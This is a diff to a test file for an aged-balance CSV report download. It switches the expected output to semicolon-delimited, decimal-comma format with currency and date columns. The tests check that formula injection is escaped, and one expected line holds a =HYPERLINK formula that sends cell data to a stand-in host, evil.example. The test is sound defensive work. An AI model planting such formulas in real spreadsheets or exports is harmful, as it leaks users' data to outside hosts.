@@ -70,11 +70,11 @@ describe('the aged balance CSV, which the read-only role downloads', () => {
     });
     expect(res.status).toBe(200);
     const lines = res.text.split('\r\n');
-    expect(lines).toContain(`C3,'-1+2,1,0.00,0.00,40.00,0.00,0.00,40.00`);
+    expect(lines).toContain(`C3;'-1+2;1;0,00;0,00;40,00;0,00;0,00;40,00;EUR;2026-11-23`);
     expect(lines).toContain(
-      `C0,"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")",1,0.00,0.00,10.00,0.00,0.00,10.00`,
+      `C0;"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")";1;0,00;0,00;10,00;0,00;0,00;10,00;EUR;2026-11-23`,
     );
-    for (const line of lines.slice(1)) expect(line.split(',')[1] ?? '').not.toMatch(/^"?[=+\-@]/);
+    for (const line of lines.slice(1)) expect(line.split(';')[1] ?? '').not.toMatch(/^"?[=+\-@]/);
   });
 
   it('answers even when the amounts add up past 2^53 cents (it answered 500 to everyone)', async () => {
@@ -84,7 +84,7 @@ describe('the aged balance CSV, which the read-only role downloads', () => {
     givenLedger([Customer.parse({ customerId: 'C1', name: 'Big' })], many);
     const res = await call('GET', '/reports/aged-balance', { query: { asOf: '2026-11-23', format: 'csv' } });
     expect(res.status).toBe(200);
-    expect(res.text).toContain('TOTAL,EUR 2026-11-23,901,');
+    expect(res.text).toContain('TOTAL;;901;');
   });
 });
 
